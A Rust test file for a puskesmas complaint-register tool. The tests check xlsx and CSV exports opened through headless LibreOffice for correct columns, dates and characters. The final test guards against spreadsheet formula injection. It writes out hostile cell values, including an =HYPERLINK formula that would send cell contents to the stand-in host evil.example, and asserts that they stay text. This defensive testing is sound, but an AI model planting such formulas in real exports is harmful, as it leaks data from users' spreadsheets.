//! The register of a month, from every channel, opened by a real spreadsheet program:
//! LibreOffice (Debian's `libreoffice-calc-nogui`) converts the .xlsx to CSV headless, and
//! the converted rows must carry the right columns, WIB dates and characters. Also the
//! `pengaduan register` command and the dashboard's download.

mod support;

use std::path::Path;
use std::process::Command;

use chrono::{DateTime, TimeZone, Utc};
use pengaduan::app::actions::ManualComplaint;
use pengaduan::app::ingest::Outcome;
use pengaduan::app::register;
use pengaduan::app::Pipeline;
use pengaduan::calendar::WIB;
use pengaduan::domain::{Channel, Ticket};
use pengaduan::reports::register::{Period, HEADERS};
use pengaduan::reports::sheet::SheetFormat;
use pengaduan::store::Store;
use support::daemon::complaint;
use support::offline;

pub const SOFFICE: &str = "/usr/bin/soffice";

fn wib(m: u32, d: u32, h: u32, min: u32) -> DateTime<Utc> {
    WIB.with_ymd_and_hms(2026, m, d, h, min, 0)
        .unwrap()
        .to_utc()
}

/// Converts `xlsx` to CSV (UTF-8, comma, quoted) with LibreOffice in a fresh profile and
/// returns the rows. Filter options: separator 44 (,), text delimiter 34 ("), charset 76
/// (UTF-8), first line 1, then the defaults; token 9 "save cell contents as shown".
pub fn libreoffice_rows(xlsx: &Path) -> Vec<Vec<String>> {
    convert(xlsx, true)
}

fn convert(xlsx: &Path, as_shown: bool) -> Vec<Vec<String>> {
    let text = soffice_convert(
        xlsx,
        &[],
        &format!("csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,{as_shown}"),
        "csv",
    );
    parse_csv(&text)
}

/// Converts `input` with LibreOffice headless in a fresh profile (`extra`: options before
/// `--convert-to`, e.g. an input filter) and returns the converted file's text.
fn soffice_convert(input: &Path, extra: &[&str], convert_to: &str, extension: &str) -> String {
    assert!(
        Path::new(SOFFICE).exists(),
        "{SOFFICE} is missing: run scripts/install-test-deps.sh (libreoffice-calc-nogui)"
    );
    let out = tempfile::tempdir().unwrap();
    let profile = tempfile::tempdir().unwrap();
    let status = Command::new(SOFFICE)
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.path().display()
        ))
        .args(["--headless", "--norestore"])
        .args(extra)
        .args(["--convert-to", convert_to, "--outdir"])
        .arg(out.path())
        .arg(input)
        .env("HOME", profile.path())
        .output()
        .expect("cannot run soffice");
    assert!(status.status.success(), "soffice: {status:?}");
    let converted = out
        .path()
        .join(input.with_extension(extension).file_name().unwrap());
    std::fs::read_to_string(&converted)
        .unwrap_or_else(|e| panic!("no {extension} from LibreOffice ({e}): {status:?}"))
}

/// RFC 4180 CSV: quoted fields, doubled quotes, line breaks inside quotes.
pub fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let text = text.trim_start_matches('\u{feff}');
    let (mut rows, mut row, mut field) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => row.push(std::mem::take(&mut field)),
            ('\r', false) => {}
            ('\n', false) => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (c, _) => field.push(c),
        }
    }
    if !field.is_empty() || !row.is_empty() {
        row.push(field);
        rows.push(row);
    }
    rows
}

/// November 2026 with an email, a telephone and a suggestion-box complaint, one
/// complaint of October and one of December that must stay out.
pub fn november(dir: &Path) -> (Pipeline, Store, [Ticket; 3]) {
    let (p, mut s) = offline::pipeline(dir, "");
    let email = complaint(
        "zoe@example.test",
        "Zoë Renée 😊",
        "n1@warga",
        "Antrean pendaftaran",
        "Antrean sangat lama, petugas bilang sistem rusak. Mohon diperbaiki 🙏 — café, Mädchen.",
    );
    let ticket = |o: Outcome| match o {
        Outcome::New { ticket, .. } => ticket,
        other => panic!("not registered: {other:?}"),
    };
    let t_email = ticket(offline::arrive(&p, &mut s, &email, wib(11, 2, 8, 15)));
    // The acknowledgement reaches the SMTP server a minute later.
    let row = s
        .claim_due_mail(wib(11, 2, 8, 16), wib(11, 2, 8, 20))
        .unwrap()
        .expect("the acknowledgement is queued");
    s.mark_sent(&row, wib(11, 2, 8, 16)).unwrap();
    let manual = |channel, name: &str, text: &str, at| ManualComplaint {
        channel,
        lapor_number: None,
        name: Some(name.into()),
        address: Some("Jl. Kenanga 3, Kademangan".into()),
        phone: Some("0812-3456-7890".into()),
        email: None,
        subject: None,
        text: text.into(),
        kind: None,
        received_at: at,
    };
    let t_phone = p
        .record(
            &mut s,
            &manual(
                Channel::Telepon,
                "Bu Siti",
                "Obat hipertensi kosong sejak Senin.",
                wib(11, 10, 9, 30),
            ),
            "ella",
            wib(11, 10, 9, 35),
        )
        .unwrap();
    let t_box = p
        .record(
            &mut s,
            &manual(
                Channel::KotakSaran,
                "Anonim",
                "Toilet ruang tunggu kotor.",
                wib(11, 30, 23, 50),
            ),
            "ella",
            wib(12, 1, 8, 0),
        )
        .unwrap();
    for (at, text) in [
        (wib(10, 31, 23, 59), "Oktober"),
        (wib(12, 1, 0, 0), "Desember"),
    ] {
        p.record(
            &mut s,
            &manual(Channel::Surat, "Luar", text, at),
            "ella",
            at,
        )
        .unwrap();
    }
    // The email complaint is reviewed within 3x24 jam and answered in time.
    p.assign(
        &mut s,
        &t_email,
        Some("pendaftaran"),
        None,
        "ella",
        wib(11, 2, 10, 0),
    )
    .unwrap();
    p.review(
        &mut s,
        &t_email,
        "Tambah satu petugas loket pagi.",
        "ella",
        wib(11, 3, 10, 0),
    )
    .unwrap();
    p.answer(
        &mut s,
        &t_email,
        "Loket pagi kini dua petugas.",
        "ella",
        wib(11, 9, 10, 58),
    )
    .unwrap();
    // The answer counts from when the SMTP server accepted it.
    let row = s
        .claim_due_mail(wib(11, 9, 11, 0), wib(11, 9, 11, 5))
        .unwrap()
        .expect("the answer is queued");
    s.mark_sent(&row, wib(11, 9, 11, 0)).unwrap();
    (p, s, [t_email, t_phone, t_box])
}

#[test]
fn libreoffice_opens_the_register_with_every_channel_and_the_right_characters() {
    let dir = tempfile::tempdir().unwrap();
    let (p, s, [t_email, t_phone, t_box]) = november(dir.path());
    let month = Period::parse_month("2026-11").unwrap();
    let file = register::file(
        &s,
        &p.calendar,
        &month,
        SheetFormat::Xlsx,
        "Puskesmas Kademangan",
        wib(12, 20, 7, 0),
    )
    .unwrap();
    assert_eq!(file.name, "register-2026-11.xlsx");
    let path = dir.path().join(&file.name);
    std::fs::write(&path, &file.bytes).unwrap();

    let rows = libreoffice_rows(&path);
    assert_eq!(rows[0], HEADERS, "the header row");
    let tickets: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(
        tickets,
        [t_email.to_string(), t_phone.to_string(), t_box.to_string()],
        "November only, oldest first: {rows:?}"
    );
    let col = |name: &str| HEADERS.iter().position(|h| *h == name).unwrap();
    let (email, phone, bx) = (&rows[1], &rows[2], &rows[3]);
    assert!(rows.iter().all(|r| r.len() == HEADERS.len()), "{rows:?}");

    // Dates are date cells shown in WIB (dd/mm/yyyy hh:mm), including 23:50 on the 30th.
    assert_eq!(email[col("Tanggal diterima")], "02/11/2026 08:15");
    assert_eq!(email[col("Tanda terima dikirim")], "02/11/2026 08:16");
    assert_eq!(email[col("Tanggal telaah")], "03/11/2026 10:00");
    assert_eq!(email[col("Tanggal dijawab")], "09/11/2026 11:00");
    assert_eq!(bx[col("Tanggal diterima")], "30/11/2026 23:50");
    // Not text that looks like a date: saved as values, LibreOffice writes the date cell
    // in its own (en-US) form, which a text cell would not change into.
    let values = convert(&path, false);
    assert_eq!(values[1][col("Tanggal diterima")], "11/02/2026 08:15:00");
    assert_eq!(values[1][col("No. tiket")], email[0]);

    assert_eq!(email[col("Saluran")], "Surel");
    assert_eq!(phone[col("Saluran")], "Telepon");
    assert_eq!(bx[col("Saluran")], "Kotak saran");
    assert_eq!(email[col("Nama")], "Zoë Renée 😊");
    assert_eq!(email[col("Surel")], "zoe@example.test");
    assert!(
        email[col("Isi pengaduan (ringkas)")].contains("🙏 — café, Mädchen"),
        "{email:?}"
    );
    assert_eq!(phone[col("Alamat")], "Jl. Kenanga 3, Kademangan");
    assert_eq!(phone[col("Telepon")], "+6281234567890");
    assert_eq!(email[col("Unit")], "pendaftaran");
    assert_eq!(
        email[col("Rencana tindak lanjut")],
        "Tambah satu petugas loket pagi."
    );
    assert_eq!(email[col("Jawaban")], "Loket pagi kini dua petugas.");
    let on_time = col("Tepat waktu (1x24 jam / 3x24 jam / 14 hari kerja)");
    assert_eq!(email[on_time], "ya / ya / ya");
    // The phone complaint has no address to mail a receipt to, and no review by 20 Dec.
    assert_eq!(phone[on_time], "- / tidak / tidak");
    assert_eq!(email[col("Kepuasan")], "menunggu tanggapan");
    assert_eq!(email[col("Dirujuk ke Dinkes")], "tidak");
    assert_eq!(email[col("Status")], "sudah dijawab");
}

#[test]
fn csv_register_opens_with_the_same_rows_as_the_workbook() {
    let dir = tempfile::tempdir().unwrap();
    let (p, s, _) = november(dir.path());
    let month = Period::parse_month("2026-11").unwrap();
    let at = wib(12, 20, 7, 0);
    let csv = register::file(&s, &p.calendar, &month, SheetFormat::Csv, "P", at).unwrap();
    assert!(
        csv.bytes.starts_with("\u{feff}".as_bytes()),
        "UTF-8 BOM for Excel"
    );
    let xlsx = register::file(&s, &p.calendar, &month, SheetFormat::Xlsx, "P", at).unwrap();
    let path = dir.path().join("r.xlsx");
    std::fs::write(&path, &xlsx.bytes).unwrap();
    // The same rows, each cell made spreadsheet-safe (a phone number `+62…` starts with
    // `'` in the CSV; the workbook stores it as a string cell).
    let workbook: Vec<Vec<String>> = libreoffice_rows(&path)
        .into_iter()
        .map(|row| {
            row.iter()
                .map(|c| pengaduan::reports::sheet::inert(c).into_owned())
                .collect()
        })
        .collect();
    assert_eq!(
        parse_csv(std::str::from_utf8(&csv.bytes).unwrap()),
        workbook
    );
}

#[test]
fn the_register_command_writes_the_file_for_a_month_or_a_span() {
    let dir = tempfile::tempdir().unwrap();
    let (_p, s, _) = november(dir.path());
    drop(s);
    let root = env!("CARGO_MANIFEST_DIR");
    let config = dir.path().join("p.toml");
    std::fs::write(
        &config,
        format!(
            "[puskesmas]\nname = \"Puskesmas Kademangan\"\nemail = \"kademangan.puskesmas@gmail.com\"\n\
             [storage]\ndatabase = \"{}\"\n[calendar]\nholidays = [\"{root}/config/libur-nasional-2026.toml\"]\n",
            dir.path().join("p.db").display()
        ),
    )
    .unwrap();
    let run = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_pengaduan"))
            .arg("--config")
            .arg(&config)
            .args(args)
            .current_dir(dir.path())
            .output()
            .unwrap()
    };
    let out = run(&["register", "--month", "2026-11"]);
    assert!(out.status.success(), "{out:?}");
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(
        said.contains("Buku register November 2026 (3 pengaduan)"),
        "{said}"
    );
    let rows = libreoffice_rows(&dir.path().join("register-2026-11.xlsx"));
    assert_eq!(rows.len(), 4);

    let csv = dir.path().join("awal.csv");
    let out = run(&[
        "register",
        "--from",
        "2026-11-01",
        "--to",
        "2026-11-15",
        "--format",
        "csv",
        "--out",
        csv.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{out:?}");
    let rows = parse_csv(&std::fs::read_to_string(&csv).unwrap());
    assert_eq!(rows.len(), 3, "the email and the phone complaint: {rows:?}");

    let out = run(&["register", "--month", "2026-13"]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("YYYY-MM"),
        "{out:?}"
    );
    let out = run(&["report", "--month", "2026-11"]);
    assert!(out.status.success(), "{out:?}");
    let html = std::fs::read_to_string(dir.path().join("laporan-2026-11.html")).unwrap();
    assert!(html.contains("<svg") && html.contains("November 2026"));
}

/// Issue 18: a complainant's name or subject that a spreadsheet would compute
/// (`=HYPERLINK(…)`, `+…`, `-…`, `@…`) stays text in the CSV register, even when
/// LibreOffice is told to evaluate formulas while opening it; phone numbers stay readable.
#[test]
fn hostile_cells_in_the_csv_register_stay_text_in_libreoffice() {
    let dir = tempfile::tempdir().unwrap();
    let (p, mut s) = offline::pipeline(dir.path(), "");
    let link = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")";
    for (name, subject) in [
        (link, "=1+1"),
        ("+SUM(1,2)", "-2+3"),
        ("@SUM(1,2)", "Antrean lama"),
    ] {
        p.record(
            &mut s,
            &ManualComplaint {
                channel: Channel::Telepon,
                lapor_number: None,
                name: Some(name.into()),
                address: None,
                phone: Some("0812-3456-7890".into()),
                email: None,
                subject: Some(subject.into()),
                text: "Antrean di loket lama sekali.".into(),
                kind: None,
                received_at: wib(11, 10, 9, 0),
            },
            "ella",
            wib(11, 10, 9, 5),
        )
        .unwrap();
    }
    let file = register::file(
        &s,
        &p.calendar,
        &Period::parse_month("2026-11").unwrap(),
        SheetFormat::Csv,
        "Puskesmas Kademangan",
        wib(12, 1, 7, 0),
    )
    .unwrap();
    let csv = dir.path().join(&file.name);
    std::fs::write(&csv, &file.bytes).unwrap();

    // CSV to a flat OpenDocument spreadsheet, importing with "evaluate formulas" on
    // (token 13 of the CSV filter options): a formula cell would carry table:formula.
    let fods = soffice_convert(
        &csv,
        &["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true"],
        "fods",
        "fods",
    );
    assert!(!fods.contains("table:formula"), "a cell became a formula");
    for text in [
        "&apos;=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Klik&quot;)",
        "&apos;+SUM(1,2)",
        "&apos;-2+3",
        "&apos;@SUM(1,2)",
        "&apos;+6281234567890",
    ] {
        let plain = text
            .replace("&apos;", "'")
            .replace("&quot;", "\"")
            .replace("&amp;", "&");
        assert!(
            fods.contains(text) || fods.contains(&plain),
            "{plain} is shown as text: {fods}"
        );
    }
}
